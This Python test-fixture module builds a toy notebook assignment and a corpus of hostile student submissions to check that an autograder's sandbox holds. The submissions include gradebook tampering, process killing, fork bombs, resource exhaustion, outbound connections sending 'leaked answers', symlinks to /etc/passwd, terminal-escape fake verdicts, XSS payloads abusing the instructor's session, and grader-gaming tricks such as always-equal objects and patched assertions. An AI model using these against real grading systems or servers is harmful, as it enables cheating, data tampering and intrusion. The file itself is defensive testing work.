"""A small assignment for the grading station's tests, and a corpus of bad submissions.

The assignment (00-station) has two exercises worth 3 automatic points each (a visible test
of 1 point and a hidden test of 2) and a written answer graded by hand. It runs in a couple
of seconds, so that the corpus can cover many ways to break or game a grader. Each case says
what it does, the automatic score it must get, and a phrase its recorded reasons must hold
(or None when it must be graded without any reason).
"""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from dlcourse import grading

ASSIGNMENT = "00-station"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
FULL_SCORE = 6.0
EXERCISE_1 = 3.0


def _meta(grade_id, *, solution=False, grade=False, locked=False, points=None):
    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3,
            "solution": solution, "task": False}
    if points is not None:
        meta["points"] = points
    return {"nbgrader": meta}


SETUP = "import numpy as np\nfrom dlcourse import check"
SOFTMAX = '''def softmax(z):
    """Row-wise softmax of a (N, C) array."""
    ### BEGIN SOLUTION
    shifted = z - z.max(axis=1, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=1, keepdims=True)
    ### END SOLUTION'''
RELU_BACKWARD = '''def relu_backward(dout, x):
    """Gradient of relu(x) given the upstream gradient dout."""
    ### BEGIN SOLUTION
    return dout * (x > 0)
    ### END SOLUTION'''
TESTS = {
    "ex1_softmax-test-visible": (1, '''\
check.assert_close(softmax(np.zeros((1, 2))), [[0.5, 0.5]], name="softmax of zeros")
print("Exercise 1: visible checks passed.")'''),
    "ex1_softmax-test-hidden": (2, '''_ = softmax(np.zeros((1, 3)))
### BEGIN HIDDEN TESTS
import torch
_r = np.random.default_rng(7)
for _trial in range(3):
    _z = _r.normal(size=(4, 5)) * 30
    np.testing.assert_allclose(softmax(_z), torch.softmax(torch.tensor(_z), dim=1).numpy(), rtol=1e-9)
### END HIDDEN TESTS'''),
    "ex2_relu-test-visible": (1, '''\
check.assert_close(relu_backward(np.ones(3), np.array([-1.0, 0.0, 2.0])), [0.0, 0.0, 1.0],
                   name="relu backward")
print("Exercise 2: visible checks passed.")'''),
    "ex2_relu-test-hidden": (2, '''_ = relu_backward(np.ones(2), np.ones(2))
### BEGIN HIDDEN TESTS
_r = np.random.default_rng(8)
_x, _d = _r.normal(size=(6, 3)), _r.normal(size=(6, 3))
_expected = _d * (_x > 0)  # before the call: what the function does to _d and _x comes back to them
check.assert_close(relu_backward(_d, _x), _expected, name="hidden relu backward")
### END HIDDEN TESTS'''),
}


def source_notebook():
    cells = [
        nbformat.v4.new_markdown_cell("# 00: a notebook for testing the grading station",
                                      metadata=_meta("intro", locked=True)),
        nbformat.v4.new_code_cell(SETUP, metadata=_meta("setup", locked=True)),
        nbformat.v4.new_code_cell(SOFTMAX, metadata=_meta("ex1_softmax", solution=True)),
    ]
    for gid in ("ex1_softmax-test-visible", "ex1_softmax-test-hidden"):
        cells.append(nbformat.v4.new_code_cell(TESTS[gid][1], metadata=_meta(gid, grade=True, locked=True,
                                                                             points=TESTS[gid][0])))
    cells.append(nbformat.v4.new_code_cell(RELU_BACKWARD, metadata=_meta("ex2_relu", solution=True)))
    for gid in ("ex2_relu-test-visible", "ex2_relu-test-hidden"):
        cells.append(nbformat.v4.new_code_cell(TESTS[gid][1], metadata=_meta(gid, grade=True, locked=True,
                                                                             points=TESTS[gid][0])))
    cells.append(nbformat.v4.new_markdown_cell("Why subtract the maximum in softmax?\n\n### BEGIN SOLUTION\n"
                                               "So that exp never overflows.\n### END SOLUTION",
                                               metadata=_meta("written", solution=True, grade=True, points=1)))
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return notebook


# Each code cell's run as `autograde execute` would record it: the time limits grading fits to it
# (dlcourse.grading.TimeLimits) are then the floor, whatever the machine's load when the corpus
# is installed, and an endless loop costs LIMIT_FLOOR_S.
RECORDED_RUN = {"iopub.status.busy": "2026-12-07T10:00:00.000000Z", "iopub.status.idle": "2026-12-07T10:00:00.100000Z"}


def install_assignment(course: Path) -> None:
    folder = course / "solutions" / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    notebook = source_notebook()
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.metadata["execution"] = dict(RECORDED_RUN)
    nbformat.write(notebook, folder / NOTEBOOK)
    # relu_backward and softmax are the library's names too: say that the library's answer these
    # exercises (release refuses a same-named function left unsettled; grading then seals it)
    declarations = course / "solutions" / "exercises.toml"
    for exercise, module, name in (("ex1_softmax", "attention", "softmax"), ("ex2_relu", "layers", "relu_backward")):
        table = f'["{ASSIGNMENT}".{exercise}]'
        if table not in declarations.read_text(encoding="utf-8"):
            with declarations.open("a", encoding="utf-8") as file:
                file.write(f'\n{table}\nreferences = ["dlcourse.np.{module}.{name}", "dlcourse.pt.{module}.{name}"]\n')


# ------------------------------------------------------------------ submissions

def solved(course: Path):
    """The solution as a student would hand it in (markers and hidden tests as released)."""
    return nbformat.read(course / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)


def released(course: Path):
    return nbformat.read(course / "course" / ASSIGNMENT / NOTEBOOK, as_version=4)


def _answer(notebook, grade_id, source):
    for cell in notebook.cells:
        if grading.grade_id(cell) == grade_id:
            cell.source = source
            return notebook
    raise KeyError(grade_id)


def _after(notebook, grade_id, source):
    """Insert a student's cell after the cell `grade_id`."""
    index = next(i for i, c in enumerate(notebook.cells) if grading.grade_id(c) == grade_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return notebook


WRONG_SOFTMAX = "def softmax(z):\n    return np.exp(z)  # not normalised\n"
WRONG_RELU = "def relu_backward(dout, x):\n    return dout\n"


def wrong(course):
    return _answer(_answer(solved(course), "ex1_softmax", WRONG_SOFTMAX), "ex2_relu", WRONG_RELU)


@dataclass
class Case:
    student: str
    what: str
    build: Callable                 # (course, context) -> notebook, or (notebook, {extra file: bytes})
    score: float
    reason: str | None = None


def _transformer(course, ctx):
    nb = wrong(course)
    transformer = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"
    return _answer(nb, "ex1_softmax", WRONG_SOFTMAX + transformer)


def _patched_checks(course, ctx):
    patch = ("import numpy.testing, dlcourse.check\n"
             "numpy.testing.assert_allclose = lambda *a, **k: None\n"
             "dlcourse.check.assert_close = check.assert_close = lambda *a, **k: None\n"
             "import builtins; builtins.AssertionError = type('Nothing', (Exception,), {})\n")
    return _answer(wrong(course), "ex1_softmax", WRONG_SOFTMAX + patch)


def _always_equal(course, ctx):
    cheat = ("class Anything(np.ndarray):\n"
             "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
             "    def __array_finalize__(self, obj): pass\n"
             "class Yes:\n"
             "    def __eq__(self, other): return True\n"
             "    __ne__ = lambda self, other: False\n"
             "    def __getattr__(self, name): return self\n"
             "    def __call__(self, *a, **k): return self\n"
             "def softmax(z):\n    return Yes()\n")
    return _answer(solved(course), "ex1_softmax", cheat)


def _planted_numpy(course, ctx):
    fake = (b"# a numpy that agrees with everything\n"
            b"def __getattr__(name):\n    return lambda *args, **kwargs: True\n")
    return _answer(wrong(course), "ex1_softmax", WRONG_SOFTMAX), {"numpy.py": fake}


def _gradebook(course, ctx):
    attack = f'''import sqlite3, glob, os
for path in [{str(ctx["gradebook"])!r}, "../../gradebook.db", "../../../autograde/gradebook.db"] + glob.glob("/*/*/autograde/gradebook.db") + glob.glob("/tmp/*/*/autograde/gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 99")
        db.commit()
        print("wrote", path)
    except Exception as error:
        print("failed", path, error)
'''  # noqa: E501 (cell code, kept on one line as a student would write it)
    return _after(wrong(course), "ex1_softmax", attack)


def _kill_parent(course, ctx):
    attack = ("import os, signal\n"
              "for pid in (os.getppid(), 1):\n"
              "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception as error:\n        print(error)\n"
              "mine = {int(t) for t in os.listdir('/proc/self/task')}  # its own threads: that would be suicide\n"
              "for pid in range(1, 40000):\n"
              "    if pid not in mine:\n"
              "        try:\n            os.kill(pid, signal.SIGKILL)\n        except Exception:\n            pass\n")
    return _after(solved(course), "ex1_softmax-test-hidden", attack)


def _edits_other(course, ctx):
    attack = f'''import glob
for path in [{str(ctx["good_notebook"])!r}] + glob.glob("/*/*/autograde/submitted/*/*/*.ipynb") + glob.glob("../*/*.ipynb"):
    try:
        open(path, "w").write("{{}}")
        print("overwrote", path)
    except Exception as error:
        print("failed", path, error)
'''  # noqa: E501 (cell code, kept on one line as a student would write it)
    return _after(solved(course), "ex1_softmax", attack)


def _reads_others(course, ctx):
    cheat = f'''import json, glob
def softmax(z):
    for path in [{str(ctx["solution"])!r}] + glob.glob("/*/*/solutions/*/*.ipynb") + glob.glob("/tmp/*/*/solutions/*/*.ipynb"):
        try:
            cells = json.load(open(path))["cells"]
        except Exception:
            continue
        namespace = {{"np": np}}
        exec("".join(cells[2]["source"]), namespace)
        return namespace["softmax"](z)
    return np.exp(z)
'''  # noqa: E501 (cell code, kept on one line as a student would write it)
    return _answer(solved(course), "ex1_softmax", cheat)


def _exits(course, ctx):
    return _after(solved(course), "ex1_softmax-test-hidden", "import os\nos._exit(3)\n")


def _ignores_sigint(course, ctx):
    return _after(solved(course), "ex1_softmax-test-hidden",
                  "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")


def _slow_cell(course, ctx):
    return _after(solved(course), "ex1_softmax-test-hidden", "import time\nwhile True:\n    time.sleep(0.01)\n")


def _slow_function(course, ctx):
    slow = SOFTMAX.replace("    ### BEGIN SOLUTION",
                           "    ### BEGIN SOLUTION\n    if z.shape[1] == 5:\n        while True:\n            pass")
    return _answer(solved(course), "ex1_softmax", slow)


def _fork_bomb(course, ctx):
    bomb = ("import os, time\n"
            "for _ in range(100000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            while True:\n"
            "                try:\n                    os.fork()\n"
            "                except OSError:\n                    time.sleep(0.2)\n"
            "    except OSError as error:\n"
            "        print('fork refused:', error)\n"
            "        break\n")
    return _after(solved(course), "ex1_softmax-test-hidden", bomb)


def _huge_output(course, ctx):
    return _after(solved(course), "ex1_softmax-test-hidden", "while True:\n    print('x' * 10000)\n")


def _huge_file(course, ctx):
    attack = ("block = b'0' * 2**20\n"
              "for path in ('big.bin', '/tmp/big.bin'):\n"
              "    try:\n"
              "        with open(path, 'wb') as handle:\n"
              "            for _ in range(2048):\n                handle.write(block)\n"
              "    except OSError as error:\n        print(path, error)\n")
    return _after(solved(course), "ex1_softmax", attack)


def _background(course, ctx):
    attack = ("import subprocess, os, time\n"
              "subprocess.Popen(['sleep', '600'])\n"
              "if os.fork() == 0:\n"
              "    os.setsid()\n"
              "    while True:\n        time.sleep(1)\n")
    return _after(solved(course), "ex1_softmax", attack)


def _network(course, ctx):
    attack = f'''import socket, urllib.request
for address in [("127.0.0.1", {ctx["port"]}), ("10.0.2.2", 80), ("pypi.org", 443)]:
    try:
        connection = socket.create_connection(address, timeout=2)
        connection.sendall(b"leaked answers")
        print("connected", address)
    except Exception as error:
        print("no", address, error)
'''
    return _after(solved(course), "ex1_softmax", attack)


def _memory(course, ctx):
    attack = "try:\n    hog = bytearray(16 * 2**30)\nexcept MemoryError as error:\n    print('refused', error)\n"
    return _after(solved(course), "ex1_softmax", attack)


def _memory_together(course, ctx):
    # three processes of 800 MB each, every page touched: each is far below the per-process
    # address-space limit, together they are past the batch's memory budget (2 GB)
    attack = ("import os, time\n"
              "for _ in range(3):\n"
              "    if os.fork() == 0:\n"
              "        hog = b'x' * (800 * 2**20)\n"
              "        time.sleep(120)\n"
              "        os._exit(0)\n"
              "time.sleep(120)\n")
    return _after(solved(course), "ex1_softmax-test-hidden", attack)


def _huge_range(course, ctx):
    # a 60-byte reply that would be a list of a billion numbers once a test reads it as an array
    return _answer(solved(course), "ex1_softmax", "def softmax(z):\n    return range(10**9)\n")


def _huge_power(course, ctx):
    # a symbolic answer whose simplification would hold the judge for many minutes
    answer = ("import sympy\n"
              "def softmax(z):\n"
              "    return sympy.Add(sympy.Pow(10, 10**8, evaluate=False), 1, evaluate=False)\n")
    return _answer(solved(course), "ex1_softmax", answer)


def _floods_runtime(course, ctx):
    # fills the kernel's runtime folder (on the host's disk, once) and leaves a chain of 3,000
    # folders in it, too deep for shutil.rmtree; then frees the space its replies need
    attack = ("import os\n"
              "io = os.path.join(os.environ['DLCOURSE_GRADER_RUNTIME'], 'io')\n"
              "try:\n"
              "    with open(os.path.join(io, 'flood.bin'), 'wb') as handle:\n"
              "        for _ in range(360):\n"
              "            handle.write(b'x' * 2**20)\n"
              "except OSError as error:\n"
              "    print('stopped:', error.strerror)\n"
              "os.remove(os.path.join(io, 'flood.bin'))\n"
              "home = os.getcwd()\n"
              "os.chdir(io)\n"
              "for _ in range(3000):\n"
              "    os.mkdir('d')\n"
              "    os.chdir('d')\n"
              "os.chdir(home)\n")
    return _after(solved(course), "ex1_softmax-test-hidden", attack)


def _busy_neighbour(course, ctx):
    # 48 processes spinning for 8 s: the sandbox's CPU share keeps them to one core, so the
    # submission graded beside it on the other worker keeps its speed. They start together once
    # all are forked (forking beside 47 spinners held to the same core would take the parent
    # longer than the cell's time limit on a loaded machine).
    attack = ("import os, time\n"
              "start_read, start_write = os.pipe()\n"
              "children = []\n"
              "for _ in range(48):\n"
              "    pid = os.fork()\n"
              "    if pid == 0:\n"
              "        os.close(start_write)\n"
              "        os.read(start_read, 1)\n"
              "        end = time.time() + 8\n"
              "        while time.time() < end:\n"
              "            pass\n"
              "        os._exit(0)\n"
              "    children.append(pid)\n"
              "os.close(start_write)\n"
              "for pid in children:\n"
              "    os.waitpid(pid, 0)\n")
    return _after(solved(course), "ex1_softmax-test-hidden", attack)


def _stderr(course, ctx):
    noisy = SOFTMAX.replace("    ### BEGIN SOLUTION",
                            "    import sys, warnings\n    print('computing', file=sys.stderr)\n"
                            "    warnings.warn('a harmless warning')\n    ### BEGIN SOLUTION")
    return _after(_answer(solved(course), "ex1_softmax", noisy), "ex1_softmax",
                  "import sys\nprint('a note on stderr', file=sys.stderr)\n")


def _test_cells(course, change):
    def build(course_, ctx):
        nb = wrong(course_) if change != "deleted" else solved(course_)
        kept = []
        for cell in nb.cells:
            meta = grading.nbgrader_metadata(cell)
            if grading.cell_kind(cell) == grading.TEST:
                if change == "deleted":
                    continue
                cell.source = "pass"
                if change == "renamed":
                    meta["grade_id"] += "-mine"
                if change == "retyped":
                    cell.metadata = {}
            kept.append(cell)
        nb.cells = kept
        return nb
    return build


def _unreadable(course, ctx):
    text = nbformat.writes(solved(course))
    return None, {NOTEBOOK: text[: len(text) // 2].encode()}


def _symlink(course, ctx):
    return None, {NOTEBOOK: ctx["solution"]}  # a link to the instructor's solution


def _plants_files(course, ctx):
    attack = ("import os\n"
              "runtime = os.environ.get('DLCOURSE_GRADER_RUNTIME', '.')\n"
              "for name, target in (('kernel.exit', None), ('request-1000.pkl', '/etc/passwd'),\n"
              "                     ('io/reply-1000.json', '/etc/passwd')):\n"
              "    path = os.path.join(runtime, name)\n"
              "    try:\n"
              "        os.symlink(target, path) if target else open(path, 'w').write('0')\n"
              "        print('planted', path)\n"
              "    except OSError as error:\n"
              "        print('refused', path, error)\n")
    return _after(solved(course), "ex1_softmax", attack)


def _reset(course, ctx):
    return _after(solved(course), "ex2_relu", "%reset -f\n")


# What a student's script in the graded notebook would do in the instructor's browser: say it
# ran (SCRIPT_MARKER on the console and in a dialog) and start a kernel through Jupyter's API, as
# the instructor. tests/test_browser.py opens the graded notebook in formgrader and the feedback
# page, and sees none of it.
SCRIPT_MARKER = "dlcourse-student-script-ran"
SCRIPT = (f"console.log('{SCRIPT_MARKER}'); alert('{SCRIPT_MARKER}'); fetch('/api/kernels', {{method: 'POST', "
          "headers: {'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]*)/) || ['', ''])[1]}})")
ORDINARY_MARKDOWN = """## Notes on the softmax

The loss grows like $x^2$, and $\\sigma(z)_i = e^{z_i} / \\sum_j e^{z_j}$ for $z_i < 0$ too.

| input | softmax |
|:------|--------:|
| 0     | 0.5     |
"""
HOSTILE_MARKDOWN = f"""More notes, with a formula $a^2 + b^2$ and things that must not run:

<script>{SCRIPT}</script>

[a link](javascript:{SCRIPT.replace(" ", "")}) and <a href="javascript:{SCRIPT}">another</a>

<svg onload="{SCRIPT}"><circle r="4"/></svg>

<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;"></iframe>
<iframe src="/api/kernels"></iframe>

$\\href{{javascript:console.log('{SCRIPT_MARKER}')}}{{a formula that is a link}}$
"""
HOSTILE_OUTPUTS = f"""import base64, io
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display

script = {SCRIPT!r}
display(Javascript(script))
display(HTML(f'<p>an HTML output</p><script>{{script}}</script><img src=x onerror="{{script}}">'))
display(HTML(f'<script>{{script}}</script>'), metadata={{'text/html': {{'isolated': True}}}})
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{script}}"><circle r="4"/></svg>'))
display(Markdown(f'<img src=x onerror="{{script}}">'))
display({{'application/vnd.jupyter.widget-view+json': {{'model_id': 'x', 'version_major': 2, 'version_minor': 0}},
         'text/plain': 'a widget'}}, raw=True)
figure, axes = plt.subplots(figsize=(3, 2))
axes.plot([0, 1, 2], [0, 1, 4])
buffer = io.BytesIO()
figure.savefig(buffer, format="png")
display(Image(buffer.getvalue()))
# the same figure, its file name on the instructor's server (the templates fetch that name)
display({{'image/png': base64.b64encode(buffer.getvalue()).decode(), 'text/plain': 'a figure'}}, raw=True,
        metadata={{'filenames': {{'image/png': '/api/kernels'}}}})
"""


def _markdown_after(notebook, grade_id, source):
    """Insert a student's markdown cell after the cell `grade_id`."""
    index = next(i for i, c in enumerate(notebook.cells) if grading.grade_id(c) == grade_id)
    notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(source))
    return notebook


def _script_in_html(course, ctx):
    nb = _answer(solved(course), "written", f'So that exp never overflows. <img src=x onerror="{SCRIPT}">')
    nb = _after(nb, "ex2_relu-test-hidden", HOSTILE_OUTPUTS)
    nb = _markdown_after(nb, "ex2_relu-test-hidden", HOSTILE_MARKDOWN)
    nb = _markdown_after(nb, "ex2_relu-test-hidden", ORDINARY_MARKDOWN)
    nb.cells.append(nbformat.v4.new_raw_cell(f'<img src=x onerror="{SCRIPT}">', metadata={"raw_mimetype": "text/html"}))
    # widget state makes nbconvert's templates load a widget manager that renders it
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"x": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                        "model_module_version": "2.0.0", "state": {"value": f'<img src=x onerror="{SCRIPT}">'}}}}}
    return nb


# written to a descriptor the kernel inherited (its log), past what ipykernel captures, then
# gone: the grader quotes the log's last line in the reason. An escape that retitles and clears
# the terminal and paints a fake verdict, an 8-bit CSI (C1) and a right-to-left override.
TERMINAL_ESCAPES = (b"\x1b]0;graded 6/6\x07\x1b[2J\x1b[H\x1b[32mall tests passed\x1b[0m "
                    + "\x9b31m\u202e6/6\n".encode())


def _terminal_escapes(course, ctx):
    attack = ("import os, stat\n"
              f"payload = {TERMINAL_ESCAPES!r}\n"
              "for descriptor in range(256):\n"
              "    try:\n"
              "        if stat.S_ISREG(os.fstat(descriptor).st_mode):\n"
              "            os.write(descriptor, payload)\n"
              "    except OSError:\n"
              "        pass\n"
              "os._exit(5)\n")
    return _after(solved(course), "ex1_softmax-test-hidden", attack)


# a lone surrogate, which JSON carries and UTF-8 cannot encode, with an escape beside it; the
# cell's source spells it as an escape (a notebook file cannot hold it), Python makes it at run time
SURROGATE_MESSAGE = "no softmax here \\ud800 \\x1b[2J"


def _surrogate_in_answer(course, ctx):
    raising = f'def softmax(z):\n    raise ValueError("{SURROGATE_MESSAGE}")\n'
    return _answer(solved(course), "ex1_softmax", raising)


def _surrogate_in_cell(course, ctx):
    return _after(solved(course), "ex1_softmax-test-hidden", f'raise ValueError("{SURROGATE_MESSAGE}")\n')


def _in_place(course, ctx):
    """relu_backward right, but written into dout and dout returned: an honest answer the tests
    do not forbid keeps its points, though the caller's dout comes back changed."""
    in_place = "def relu_backward(dout, x):\n    dout *= x > 0\n    return dout\n"
    return _answer(solved(course), "ex2_relu", in_place)


def _steers_arguments(course, ctx):
    """relu_backward wrong (zeros), with x set to -1 in place: the caller's x comes back changed,
    so a test computing its expected value from x after the call would agree (zeros); the
    hidden test computes it before."""
    steering = "def relu_backward(dout, x):\n    x[...] = -1.0\n    return np.zeros_like(dout)\n"
    return _answer(solved(course), "ex2_relu", steering)


CASES = [
    Case("good", "the solution", lambda c, x: solved(c), FULL_SCORE),
    Case("blank", "the released notebook, untouched", lambda c, x: released(c), 0.0),
    Case("wrong", "wrong answers", lambda c, x: wrong(c), 0.0),
    Case("stderr", "a correct answer that writes to stderr and warns", _stderr, FULL_SCORE),
    Case("transformer", "wrong answers + an input transformer turning later cells into `pass`", _transformer, 0.0),
    Case("patched-checks", "wrong answers + np.testing, check.assert_close and AssertionError patched",
         _patched_checks, 0.0),
    Case("always-equal", "softmax returns an object equal to everything", _always_equal, FULL_SCORE - EXERCISE_1),
    Case("planted-numpy", "wrong answers + a numpy.py beside the notebook", _planted_numpy, 0.0),
    Case("gradebook", "wrong answers + sqlite writes to the gradebook", _gradebook, 0.0),
    Case("kill-parent", "kills its parent, pid 1 and every pid it can name", _kill_parent, FULL_SCORE),
    Case("edits-other", "overwrites another student's submission", _edits_other, FULL_SCORE),
    Case("reads-others", "softmax copies the instructor's solution from solutions/",
         _reads_others, FULL_SCORE - EXERCISE_1),
    Case("exits", "os._exit(3) after exercise 1", _exits, EXERCISE_1, "exited with status 3"),
    Case("ignores-sigint", "a loop ignoring SIGINT after exercise 1",
         _ignores_sigint, EXERCISE_1, "did not stop when interrupted"),
    Case("slow-cell", "an endless loop that an interrupt stops", _slow_cell, FULL_SCORE, "time limit"),
    Case("slow-function", "softmax never returns on the hidden test's input",
         _slow_function, FULL_SCORE - 2, "time limit"),
    # the bomb's processes use up its own process limit: its later cells cannot start a thread
    Case("fork-bomb", "a fork bomb after exercise 1", _fork_bomb, EXERCISE_1),
    Case("huge-output", "prints without end after exercise 1", _huge_output, FULL_SCORE, "output limit"),
    Case("huge-file", "writes 2 GB to its folder and to /tmp", _huge_file, FULL_SCORE),
    Case("background", "leaves a subprocess and a daemon running", _background, FULL_SCORE),
    Case("network", "connects to a server on the grader's loopback and to the internet", _network, FULL_SCORE),
    Case("memory", "allocates 16 GB", _memory, FULL_SCORE),
    Case("memory-together", "three processes of 800 MB each after exercise 1, past the sandbox's memory budget",
         _memory_together, EXERCISE_1, "memory limit (2 GB)"),
    Case("huge-range", "softmax returns range(10**9), a small reply that would be a billion numbers",
         _huge_range, FULL_SCORE - EXERCISE_1),
    Case("huge-power", "softmax returns 10**(10**8) + 1, unevaluated", _huge_power, FULL_SCORE - EXERCISE_1),
    Case("floods-runtime", "writes 360 MB and 3,000 nested folders into the kernel's runtime folder",
         _floods_runtime, FULL_SCORE),
    Case("busy-neighbour", "48 processes spinning for 8 s after exercise 1", _busy_neighbour, FULL_SCORE),
    Case("deleted-tests", "correct answers, every test cell deleted", _test_cells(None, "deleted"), FULL_SCORE),
    Case("edited-tests", "wrong answers, test cells emptied to `pass`", _test_cells(None, "edited"), 0.0),
    Case("renamed-tests", "wrong answers, test cells emptied and their ids renamed", _test_cells(None, "renamed"), 0.0),
    Case("retyped-tests", "wrong answers, test cells re-typed without their metadata",
         _test_cells(None, "retyped"), 0.0),
    Case("reset", "%reset -f before exercise 2's tests: they find no answer", _reset, EXERCISE_1),
    Case("unreadable", "half a notebook file", _unreadable, 0.0, "not a readable notebook"),
    Case("symlink", "the notebook is a symbolic link to the instructor's solution", _symlink, 0.0, "symbolic link"),
    Case("plants-files", "plants a fake exit status and links in the kernel's runtime folder",
         _plants_files, FULL_SCORE),
    Case("script-in-html", "scripts in a written answer, in markdown, in HTML, SVG and JavaScript outputs",
         _script_in_html, FULL_SCORE),
    Case("terminal-escapes", "after exercise 1, writes terminal escapes to its log's descriptor, then os._exit(5)",
         _terminal_escapes, EXERCISE_1, r"(\x1b]0;graded 6/6\x07\x1b[2J"),
    Case("surrogate-answer", "softmax raises an exception whose message holds a lone surrogate",
         _surrogate_in_answer, FULL_SCORE - EXERCISE_1),
    Case("surrogate-cell", "a cell after exercise 1 raises an exception whose message holds a lone surrogate",
         _surrogate_in_cell, FULL_SCORE),
    Case("in-place", "relu_backward updates dout in place and returns it", _in_place, FULL_SCORE),
    Case("steers-arguments", "relu_backward returns zeros and sets its x to -1 in place", _steers_arguments,
         EXERCISE_1),
]


def write_submissions(course: Path, context: dict) -> None:
    for case in CASES:
        write_case(course, context, case, case.student)


def write_case(course: Path, context: dict, case: Case, student: str) -> None:
    """One case's submission, handed in by ``student`` (the grading batch uses the case's own name;
    the soak benchmark hands each case in under many names)."""
    folder = course / "autograde" / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    built = case.build(course, context)
    notebook, extra = built if isinstance(built, tuple) else (built, {})
    if notebook is not None:
        nbformat.write(notebook, folder / NOTEBOOK)
    for name, data in extra.items():
        if isinstance(data, Path):
            (folder / name).symlink_to(data)
        else:
            (folder / name).write_bytes(data)
